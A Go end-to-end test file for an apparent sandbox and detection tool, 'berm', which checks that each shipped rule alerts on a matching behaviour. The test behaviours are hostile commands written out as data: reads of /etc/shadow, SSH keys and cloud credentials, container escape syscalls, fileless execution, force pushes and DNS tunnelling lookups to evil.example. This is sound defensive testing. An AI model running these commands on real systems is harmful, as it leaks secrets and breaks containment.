package rules

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"testing"

	"github.com/bermsec/berm/agent/event"
	"github.com/bermsec/berm/testenv/bermbin"
	"github.com/bermsec/berm/testenv/dnstest"
	"github.com/bermsec/berm/testenv/testutil"
)

// End to end: each shipped rule is proven by a real behaviour run inside `berm run`, whose
// alert must appear in that call's timeline. Needs root (berm run builds cgroups, namespaces
// and loads eBPF).

const py = "/usr/bin/python3"

// pySyscall is a python3 program that makes raw syscalls through libc and ignores failures:
// inside the sandbox most of them are refused, and the attempt is what the rule sees.
func pySyscall(body string) []string {
	return []string{py, "-c", "import ctypes, os, socket, stat\n" +
		"libc = ctypes.CDLL(None, use_errno=True)\n" +
		"sc = libc.syscall\n" +
		"sc.restype = ctypes.c_long\n" +
		"def attempt(f):\n" +
		"    try:\n" +
		"        f()\n" +
		"    except Exception as e:\n" +
		"        print('refused:', e)\n" +
		body}
}

// pathRace flips a path buffer between two names in a thread while unlinking through it (ctypes
// releases the interpreter lock around both, so they run at once).
const pathRace = `import threading
buf = ctypes.create_string_buffer(32)
stop = []
def flip():
    while not stop:
        ctypes.memmove(buf, b"/tmp/d37/harmless\0", 18)
        ctypes.memmove(buf, b"/tmp/precious\0", 14)
t = threading.Thread(target=flip)
t.start()
for i in range(20000):
    open("/tmp/precious", "w").close()
    libc.unlink(buf)
stop.append(1)
t.join()
`

func sh(script string) []string { return []string{"/bin/sh", "-c", script} }

// openOnly opens a path the way a write would, without writing anything: the cases that touch
// host-wide files (sysrq, /proc/sys, disks) must be harmless even if the sandbox failed open.
func openOnly(paths ...string) []string {
	var b strings.Builder
	for _, p := range paths {
		fmt.Fprintf(&b, "attempt(lambda: os.close(os.open(%q, os.O_WRONLY)))\n", p)
	}
	return pySyscall(b.String())
}

type e2eCase struct {
	rule   string
	flags  []string // berm run flags
	policy string   // a policy file's text, given with --policy
	cmd    []string
	// upstream, when set, is the zone of a DNS server the test runs as the call's resolver's
	// upstream (--dns-upstream).
	upstream dnstest.Zone
}

// dnsPolicy gives the call the host's network, filtered, with a domain rule: its DNS goes to
// berm's resolver (which refuses every other name without asking anyone).
const dnsPolicy = `apiVersion: berm.dev/v1alpha1
kind: ToolPolicy
metadata: {name: dns-e2e}
spec:
  isolation: {network: host-filtered}
  network:
    egress:
      - {domain: allowed.test, ports: [443]}
`

// lookups resolves each name through the C library, as a tool would (the names are refused).
func lookups(names string) []string {
	return []string{py, "-c", "import socket\nfor n in " + names + ":\n    try: socket.getaddrinfo(n, 443, socket.AF_INET)\n    except OSError: pass\n"}
}

var e2eCases = []e2eCase{
	// escape.yaml
	{rule: "escape-cgroup-write", cmd: openOnly("/sys/fs/cgroup/unified/cgroup.procs", "/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/pids/tasks")},
	{rule: "escape-cgroup-release-agent", cmd: openOnly("/sys/fs/cgroup/memory/release_agent", "/sys/fs/cgroup/pids/notify_on_release")},
	{rule: "escape-cgroup-move", cmd: pySyscall("open('/tmp/x', 'w').close()\nattempt(lambda: os.rename('/tmp/x', '/sys/fs/cgroup/unified/x'))\n")},
	{rule: "escape-unshare", cmd: pySyscall("sc(272, 0x10000000)\n")},
	{rule: "escape-setns", cmd: pySyscall("fd = os.open('/proc/self/ns/mnt', os.O_RDONLY)\nsc(308, fd, 0)\n")},
	// a thread rewrites the path buffer while the main thread unlinks through it
	{rule: "escape-path-race", cmd: pySyscall(pathRace)},
	{rule: "escape-mount", cmd: pySyscall("sc(165, b'none', b'/tmp', b'tmpfs', 0, 0)\n")},
	{rule: "escape-chroot", cmd: pySyscall("sc(161, b'/tmp')\n")},
	{rule: "escape-ptrace", cmd: pySyscall("sc(101, 16, 1, 0, 0)\n")},
	{rule: "escape-process-vm", cmd: pySyscall("sc(310, 1, 0, 0, 0, 0, 0)\n")},
	{rule: "escape-proc-mem", cmd: sh("cat /proc/1/mem >/dev/null 2>&1; true")},
	{rule: "escape-proc-root", cmd: sh("cat /proc/1/root/etc/hostname >/dev/null 2>&1; true")},
	{rule: "escape-runtime-socket", cmd: pySyscall("s = socket.socket(socket.AF_UNIX)\nattempt(lambda: s.connect('/var/run/docker.sock'))\n")},
	{rule: "escape-mknod-device", cmd: pySyscall("attempt(lambda: os.mknod('/tmp/sda', 0o600 | stat.S_IFBLK, os.makedev(8, 0)))\n")},
	{rule: "escape-open-by-handle", cmd: pySyscall("buf = ctypes.create_string_buffer(128)\nsc(304, -100, buf, 0)\n")},
	{rule: "escape-setuid-exec", cmd: sh("/usr/bin/passwd --help >/dev/null 2>&1; true")},
	{rule: "escape-setid-root", cmd: pySyscall("attempt(lambda: os.setuid(0))\n")},
	{rule: "escape-chmod-setuid", cmd: sh("touch /tmp/x && chmod u+s /tmp/x")},
	// kernel.yaml
	{rule: "kernel-module-load", cmd: pySyscall("sc(313, 0, b'', 0)\n")},
	{rule: "kernel-bpf", cmd: pySyscall("buf = ctypes.create_string_buffer(128)\nsc(321, 0, buf, 128)\n")},
	{rule: "kernel-io-uring", cmd: pySyscall("params = ctypes.create_string_buffer(120)\nsc(425, 8, params)\n")},
	{rule: "kernel-userfaultfd", cmd: pySyscall("sc(323, 0)\n")},
	{rule: "kernel-perf-event", cmd: pySyscall("attr = ctypes.create_string_buffer(128)\nsc(298, attr, 0, -1, -1, 0)\n")},
	{rule: "kernel-keyring", cmd: pySyscall("sc(250, 0, -3, 0)\n")},
	{rule: "kernel-memory-device", cmd: sh("head -c1 /proc/kcore >/dev/null 2>&1; head -c1 /dev/mem >/dev/null 2>&1; true")},
	{rule: "kernel-raw-socket", cmd: pySyscall("attempt(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))\n")},
	{rule: "kernel-tunable-write", cmd: openOnly("/proc/sys/kernel/core_pattern")},
	{rule: "kernel-sysfs-write", cmd: openOnly("/sys/kernel/mm/transparent_hugepage/enabled")},
	{rule: "kernel-sysrq", cmd: openOnly("/proc/sysrq-trigger")},
	// exec.yaml
	{rule: "exec-fileless", cmd: pySyscall("fd = os.memfd_create('payload')\nos.write(fd, open('/bin/true', 'rb').read())\nos.execv('/proc/self/fd/%d' % fd, ['payload'])\n")},
	{rule: "exec-from-writable-dir", cmd: sh("cp /bin/true /tmp/t && /tmp/t")},
	{rule: "exec-interpreter-shell", cmd: []string{py, "-c", "import os; os.system('true')"}},
	// writable-exec.yaml
	{rule: "exec-loader-direct", cmd: sh("cp /bin/true /tmp/t && /lib64/ld-linux-x86-64.so.2 /tmp/t; true")},
	{rule: "exec-memory-executable", cmd: pySyscall("sc(319, b'x', 0x10)\n")},
	{rule: "exec-preload-writable", cmd: sh("cp /usr/lib/x86_64-linux-gnu/libm.so.6 /tmp/libx.so && env LD_PRELOAD=/tmp/libx.so /bin/true; true")},
	{rule: "exec-library-from-writable-dir", cmd: sh("cp /usr/lib/x86_64-linux-gnu/libm.so.6 /tmp/libx.so && LD_PRELOAD=/tmp/libx.so /bin/true; true")},
	// credential.yaml
	{rule: "credential-system-files", cmd: sh("cat /etc/shadow >/dev/null 2>&1; true")},
	{rule: "credential-secret-files", cmd: sh("cat /root/.aws/credentials /root/.ssh/id_rsa >/dev/null 2>&1; true")},
	{rule: "credential-proc-environ", cmd: sh("cat /proc/1/environ >/dev/null 2>&1; true")},
	{rule: "credential-cloud-metadata", cmd: pySyscall("s = socket.socket()\ns.settimeout(1)\nattempt(lambda: s.connect(('169.254.169.254', 80)))\n")},
	// destructive.yaml
	{rule: "destructive-deletion-storm", cmd: sh("mkdir /tmp/d && cd /tmp/d && i=0; while [ $i -lt 600 ]; do : > f$i; i=$((i+1)); done; cd / && rm -rf /tmp/d")},
	{rule: "destructive-rm-root", cmd: sh("rm --no-preserve-root --version >/dev/null")},
	{rule: "destructive-block-device-write", cmd: openOnly("/dev/sda", "/dev/vda", "/dev/nvme0n1")},
	{rule: "destructive-kill-all", cmd: pySyscall("attempt(lambda: os.kill(-1, 0))\n")},
	{rule: "irreversible-git-force-push", cmd: sh("git push --force origin main >/dev/null 2>&1; true")},
	{rule: "irreversible-package-publish", cmd: sh(py + " -m twine upload dist/x.whl >/dev/null 2>&1; true")},
	// resource.yaml
	{rule: "resource-fork-storm", cmd: sh("i=0; while [ $i -lt 250 ]; do /bin/true; i=$((i+1)); done")},
	{rule: "resource-output-flood", flags: []string{"--output-limit", "1000"}, cmd: sh("yes | head -c 100000")},
	{rule: "resource-memory-exhausted", flags: []string{"--memory", "32Mi"}, cmd: []string{py, "-c", "a = [bytearray(1 << 20) for i in range(200)]"}},
	{rule: "resource-wall-time", flags: []string{"--timeout", "1s"}, cmd: []string{"/bin/sleep", "5"}},
	{rule: "probing-repeated-denials", cmd: sh("i=0; while [ $i -lt 15 ]; do cat /etc/ssh/ssh_config 2>/dev/null; i=$((i+1)); done; true")},
	{rule: "probing-permission-errors", cmd: sh("i=0; while [ $i -lt 25 ]; do cat /etc/shadow 2>/dev/null; i=$((i+1)); done; true")},
	// tenant.yaml
	{rule: "tenant-foreign-path", flags: []string{"--tenant", "alice"}, cmd: sh("cat /var/lib/berm/tenants/bob/notes.txt >/dev/null 2>&1; true")},
	// dns.yaml
	{rule: "dns-tunnel-long-label", policy: dnsPolicy, cmd: lookups("['mzxw6ytboi4dsnzsgq2tmnzyhe3tembrgiztinjwg4ytsmrqgiydaojrgeztq.t.evil.example']")},
	{rule: "dns-tunnel-high-entropy", policy: dnsPolicy, cmd: lookups("['x7k2p9q4m1v8z3b6n5c0w2r7t4y9.files.example']")},
	{rule: "dns-tunnel-many-subdomains", policy: dnsPolicy, cmd: lookups("['c%d.t.evil.example' % i for i in range(60)]")},
	{rule: "dns-unresolved-connect", policy: dnsPolicy, cmd: pySyscall("s = socket.socket()\nattempt(lambda: s.connect(('127.0.0.1', 9)))\n")},
	// allowed.test answered with a loopback address: withheld, and the attempt alerts.
	{rule: "dns-rebinding", policy: dnsPolicy, cmd: lookups("['allowed.test']"),
		upstream: dnstest.Zone{"allowed.test": {dnstest.A("allowed.test", "127.0.0.1", 60), dnstest.A("allowed.test", "10.0.0.7", 60)}}},
}

// Every shipped rule has an end-to-end case, and every case names a shipped rule.
func TestE2ECoversShippedRules(t *testing.T) {
	set, err := Shipped()
	if err != nil {
		t.Fatal(err)
	}
	cases := map[string]bool{}
	for _, c := range e2eCases {
		if cases[c.rule] {
			t.Errorf("rule %s has two end-to-end cases", c.rule)
		}
		cases[c.rule] = true
		if set.Rule(c.rule) == nil {
			t.Errorf("end-to-end case for %s, which is not shipped", c.rule)
		}
	}
	for _, r := range set.Rules() {
		if !cases[r.ID] {
			t.Errorf("shipped rule %s has no end-to-end case", r.ID)
		}
	}
	if n := len(set.Rules()); n < 25 {
		t.Errorf("%d shipped rules, want at least 25", n)
	}
}

type timeline struct {
	Call   json.RawMessage `json:"call"`
	Events []event.Event   `json:"events"`
}

var bermBin string

func buildBerm(t *testing.T) string {
	t.Helper()
	testutil.RequireRoot(t, "berm run creates cgroups and namespaces and loads eBPF")
	if runtime.GOARCH != "amd64" {
		t.Skip("end-to-end rule tests use x86-64 syscall numbers")
	}
	if bermBin != "" {
		return bermBin
	}
	if bin := os.Getenv("BERM_BIN"); bin != "" {
		bermBin = bin // a berm built elsewhere (another tree, an installed one)
		return bin
	}
	bermBin = bermbin.Path(t, "berm")
	return bermBin
}

// runCall runs cmd in berm run and returns its timeline.
func runCall(t *testing.T, bin, stateDir, callID string, flags, cmd []string) []event.Event {
	t.Helper()
	args := append([]string{"run", "--state-dir", stateDir, "--call-id", callID, "--tool", "rules-e2e"}, flags...)
	args = append(args, "--")
	args = append(args, cmd...)
	run := exec.Command(bin, args...)
	var out bytes.Buffer
	run.Stdout, run.Stderr = &out, &out
	_ = run.Run() // the behaviours fail inside the sandbox on purpose; the exit status is not the test
	tl := exec.Command(bin, "timeline", callID, "--state-dir", stateDir, "--json")
	data, err := tl.Output()
	if err != nil {
		t.Fatalf("berm timeline %s: %v\nberm run output:\n%s", callID, err, out.String())
	}
	var doc timeline
	if err := json.Unmarshal(data, &doc); err != nil {
		t.Fatalf("berm timeline %s --json: %v", callID, err)
	}
	if len(doc.Events) == 0 {
		t.Fatalf("call %s has no events; berm run output:\n%s", callID, out.String())
	}
	return doc.Events
}

func TestE2EShippedRules(t *testing.T) {
	bin := buildBerm(t)
	// Not under /tmp: the sandbox mounts a private /tmp over it.
	stateDir, err := os.MkdirTemp("/var/tmp", "berm-rules-e2e-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(stateDir) })
	shipped, err := Shipped()
	if err != nil {
		t.Fatal(err)
	}
	for i, c := range e2eCases {
		t.Run(c.rule, func(t *testing.T) {
			callID := fmt.Sprintf("e2e-%02d-%s", i, c.rule)
			flags := c.flags
			if c.policy != "" {
				path := filepath.Join(stateDir, c.rule+".yaml")
				if err := os.WriteFile(path, []byte(c.policy), 0o644); err != nil {
					t.Fatal(err)
				}
				flags = append([]string{"--policy", path}, flags...)
			}
			if c.upstream != nil {
				flags = append([]string{"--dns-upstream", dnstest.Start(t, c.upstream).Addr}, flags...)
			}
			events := runCall(t, bin, stateDir, callID, flags, c.cmd)
			bySeq := map[uint64]*event.Event{}
			for j := range events {
				bySeq[events[j].Seq] = &events[j]
			}
			found := false
			for _, ev := range events {
				if ev.Kind != event.KindAlert || ev.Alert == nil || ev.Alert.RuleID != c.rule {
					continue
				}
				found = true
				if ev.CallID != callID {
					t.Errorf("alert in call %s's timeline says call %q", callID, ev.CallID)
				}
				trig := bySeq[ev.Alert.EventSeq]
				if trig == nil || trig.Kind == event.KindAlert {
					t.Errorf("alert %d points at event %d, not an event of the call", ev.Seq, ev.Alert.EventSeq)
				} else if trig.CallID != callID {
					t.Errorf("alert's trigger event belongs to call %q", trig.CallID)
				}
			}
			for _, ev := range events {
				if ev.Kind == event.KindAlert && ev.UID == 0 && strings.HasPrefix(ev.Comm, "berm") {
					t.Errorf("alert on berm's own sandbox setup: %+v", *ev.Alert)
				}
			}
			if found {
				return
			}
			// Say whether the rule fires on the recorded events: it tells a rule that does not
			// match the real behaviour from an agent that did not evaluate it.
			eng := NewEngine(shipped, nil)
			offline := 0
			for j := range events {
				if events[j].Kind == event.KindAlert {
					continue
				}
				for _, a := range eng.Eval(&events[j]) {
					if a.Alert.RuleID == c.rule {
						offline++
					}
				}
			}
			var dump strings.Builder
			if offline == 0 {
				for _, ev := range events {
					if ev.Kind == event.KindSyscall || ev.Kind == event.KindExec || ev.Kind == event.KindLimit ||
						ev.Kind == event.KindConnect || ev.Kind == event.KindDenial ||
						(ev.Kind == event.KindOpen && !strings.HasPrefix(ev.Open.Path, "/usr/lib") && !strings.HasPrefix(ev.Open.Path, "/lib")) {
						b, _ := json.Marshal(ev)
						dump.WriteString("\n  " + string(b))
					}
				}
			}
			t.Errorf("no %s alert in call %s's timeline (%d events); on the recorded events the rule fires %d time(s)%s",
				c.rule, callID, len(events), offline, dump.String())
		})
	}
}

// A benign developer workload (the benchmark corpus's) raises no alert: the shipped rules do
// not fire on ordinary work, nor on berm's own sandbox setup.
func TestE2EBenignWorkload(t *testing.T) {
	bin := buildBerm(t)
	stateDir, err := os.MkdirTemp("/var/tmp", "berm-rules-e2e-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(stateDir) })
	for i, cmd := range corpusWorkload {
		callID := fmt.Sprintf("benign-%d", i)
		for _, ev := range runCall(t, bin, stateDir, callID, nil, cmd) {
			if ev.Kind == event.KindAlert {
				t.Errorf("call %s (%s): alert %s: %s", callID, strings.Join(cmd, " "), ev.Alert.RuleID, ev.Alert.Output)
			}
		}
	}
}
